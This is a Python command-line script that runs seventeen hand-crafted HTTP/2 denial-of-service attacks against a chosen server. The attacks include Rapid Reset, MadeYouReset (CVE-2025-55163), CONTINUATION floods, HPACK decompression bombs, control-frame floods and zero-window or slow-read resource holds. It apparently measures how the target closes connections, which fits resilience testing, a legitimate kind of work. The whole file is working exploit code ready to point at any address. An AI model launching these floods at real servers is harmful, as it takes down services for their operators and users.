"""Attacks on a server of HTTP/2, each by hand-written frames and at a rate that leaves the machine to the server.

usage: h2-attack.py ATTACK ADDRESS PORT HOST SOURCE SECONDS [CONNECTIONS]
Keeps some connections under attack for SECONDS; who is sent away comes again. Prints `attacked` when the first is,
and at the end: connections, how many of them the server closed, by which error, after how long at most.
"""

import asyncio
import collections
import ssl
import struct
import sys
import time

import h2wire as h2

TICK = 0.05
BIG = "/big"


class Attack:
    """The bytes of one connection: `greeting` as SETTINGS, `first` once, then `more` at `rate` a second."""

    rate = 1000
    greeting = {}

    def __init__(self, host):
        self.host = host
        self.stream = -1

    def next(self):
        self.stream += 2
        return self.stream

    def get(self, path="/", end=True, method="GET"):
        return h2.headers(self.next(), h2.request(method, self.host, path), end)

    def first(self):
        return b""

    def more(self):
        return b""


class RapidReset(Attack):
    def more(self):
        return self.get() + h2.reset(self.stream)


class MadeYouReset(Attack):
    """A WINDOW_UPDATE of zero makes the server reset the stream, not the client (CVE-2025-55163)."""

    def more(self):
        return self.get(end=False, method="POST") + h2.window(self.stream, 0)


class Continuation(Attack):
    def first(self):
        return h2.frame(h2.HEADERS, h2.END_STREAM, self.next(), h2.request("GET", self.host, "/"))

    def more(self):
        return h2.frame(h2.CONTINUATION, 0, self.stream, h2.field("x", "y" * 100))


class EmptyContinuation(Continuation):
    def more(self):
        return h2.frame(h2.CONTINUATION, 0, self.stream)


class HpackBomb(Attack):
    """One entry of nearly the whole table, then references of a byte each: 16 KiB mean 60 MB."""

    rate = 20

    def first(self):
        entry = h2.field("bomb", "x" * 3900, 0x40, 6)
        return h2.headers(self.next(), h2.request("GET", self.host, "/") + entry)

    def more(self):
        return h2.headers(self.next(), h2.request("GET", self.host, "/") + b"\xbe" * 16000)


class SmallBombs(HpackBomb):
    """The same below the limit of a field section, on streams that stay open and are never read."""

    rate = 10
    greeting = {"INITIAL_WINDOW": 0}

    def more(self):
        return h2.headers(self.next(), h2.request("GET", self.host, BIG) + b"\xbe" * 7)


class Ping(Attack):
    rate = 2000

    def more(self):
        return h2.frame(h2.PING, 0, 0, b"culvert!")


class Settings(Attack):
    def more(self):
        return h2.settings(INITIAL_WINDOW=65535)


class EmptyData(Attack):
    rate = 2000

    def first(self):
        return self.get("/upload", False, "POST")

    def more(self):
        return h2.frame(h2.DATA, 0, self.stream)


class EmptyHeaders(Attack):
    def more(self):
        return h2.headers(self.next(), b"")


class WindowUpdates(Attack):
    rate = 5000

    def more(self):
        return h2.window(0, 1)


class Priority(Attack):
    rate = 5000

    def more(self):
        return h2.frame(h2.PRIORITY, 0, self.next(), struct.pack(">IB", 0, 15))


class HugeHeaders(Attack):
    """A field of 128 KiB, over CONTINUATION frames that are not small."""

    rate = 5

    def more(self):
        block = h2.request("GET", self.host, "/") + h2.field("x", "y" * 131072)
        parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        out = h2.frame(h2.HEADERS, h2.END_STREAM, self.next(), parts[0])
        for part in parts[1:-1]:
            out += h2.frame(h2.CONTINUATION, 0, self.stream, part)
        return out + h2.frame(h2.CONTINUATION, h2.END_HEADERS, self.stream, parts[-1])


class Cookies(Attack):
    """Crumbs of a cookie: 900 of them are less than a field section may have in bytes, and more than in fields."""

    rate = 50

    def more(self):
        block = h2.request("GET", self.host, "/") + h2.field("cookie", "a=b") * 900
        return h2.headers(self.next(), block)


class ZeroWindow(Attack):
    """Wants a hundred big pages, and none of their bytes."""

    rate = 40
    greeting = {"INITIAL_WINDOW": 0}

    def more(self):
        return self.get(BIG) if self.stream < 199 else b""


class SlowRead(ZeroWindow):
    """A byte of each page a second."""

    rate = 100

    def more(self):
        if self.stream < 199:
            return self.get(BIG)
        self.turn = (getattr(self, "turn", 0) + 1) % 100
        return h2.window(2 * self.turn + 1, 1)


class Deaf(ZeroWindow):
    """Opens every window, does not read the socket, and says so little that it costs nothing."""

    rate = 50
    greeting = {"INITIAL_WINDOW": 2**31 - 1}

    def first(self):
        return h2.window(0, 2**31 - 1 - 65535)

    def more(self):
        self.said = getattr(self, "said", 0) + 1
        return super().more() or (h2.frame(h2.PING, 0, 0, b"culvert!") if self.said % 50 == 0 else b"")


ATTACKS = {
    "rapid-reset": RapidReset, "made-you-reset": MadeYouReset, "continuation": Continuation,
    "empty-continuation": EmptyContinuation, "hpack-bomb": HpackBomb, "small-bombs": SmallBombs, "ping": Ping,
    "settings": Settings, "empty-data": EmptyData, "empty-headers": EmptyHeaders, "window-update": WindowUpdates,
    "priority": Priority, "huge-headers": HugeHeaders, "cookies": Cookies, "zero-window": ZeroWindow,
    "slow-read": SlowRead, "deaf": Deaf,
}

counts = collections.Counter()
slowest = 0.0
announced = False


async def listen(wire, deaf):
    """What the server says last: the error of its GOAWAY, or how its side ended."""
    said = "closed"
    try:
        if deaf:
            # The end of the connection shows in writing.
            wire.writer.transport.pause_reading()
            await asyncio.Event().wait()
        while True:
            kind, _, _, payload = await wire.read()
            if kind == h2.GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                said = h2.ERRORS[code] if code < len(h2.ERRORS) else str(code)
    except (OSError, asyncio.IncompleteReadError):
        return said


async def speak(wire, attack):
    """Paced by the clock: what a slow turn missed is not made up for."""
    await wire.send(attack.first())
    while True:
        batch = max(1, int(attack.rate * TICK))
        await wire.send(b"".join(attack.more() for _ in range(batch)))
        await asyncio.sleep(batch / attack.rate)


async def connection(name, address, port, host, source, until):
    """One after the other, at most two a second: the rate of arrivals is another test."""
    global slowest, announced
    while time.monotonic() < until:
        attack = ATTACKS[name](host)
        try:
            wire = await h2.Wire.open(address, port, host, source, **attack.greeting)
        except (OSError, ssl.SSLError):
            counts["not-let-in"] += 1
            await asyncio.sleep(0.5)
            continue
        began = time.monotonic()
        counts["connections"] += 1
        if not announced:
            announced = True
            print("attacked", flush=True)
        hearing = asyncio.create_task(listen(wire, name == "deaf"))
        speaking = asyncio.create_task(speak(wire, attack))
        await asyncio.wait({hearing, speaking}, timeout=until - began, return_when=asyncio.FIRST_COMPLETED)
        if speaking.done() and not hearing.done() and name != "deaf":
            # The last word is perhaps still to be read.
            await asyncio.wait({hearing}, timeout=1)
        if hearing.done() or speaking.done():
            counts["closed"] += 1
            counts["by-" + (hearing.result() if hearing.done() else "reset")] += 1
            slowest = max(slowest, time.monotonic() - began)
        else:
            # Begun lately, unless the server lets it go on.
            counts["longest-left"] = max(counts["longest-left"], int(time.monotonic() - began))
        for task in (hearing, speaking):
            task.cancel()
        await asyncio.gather(hearing, speaking, return_exceptions=True)
        wire.close()
        await asyncio.sleep(0.5)


async def main(name, address, port, host, source, seconds, connections="4"):
    until = time.monotonic() + float(seconds)
    await asyncio.gather(
        *(connection(name, address, int(port), host, source, until) for _ in range(int(connections))))
    print(f"slowest {slowest:.1f}")
    for key, count in counts.items():
        print(key, count)


asyncio.run(main(*sys.argv[1:]))
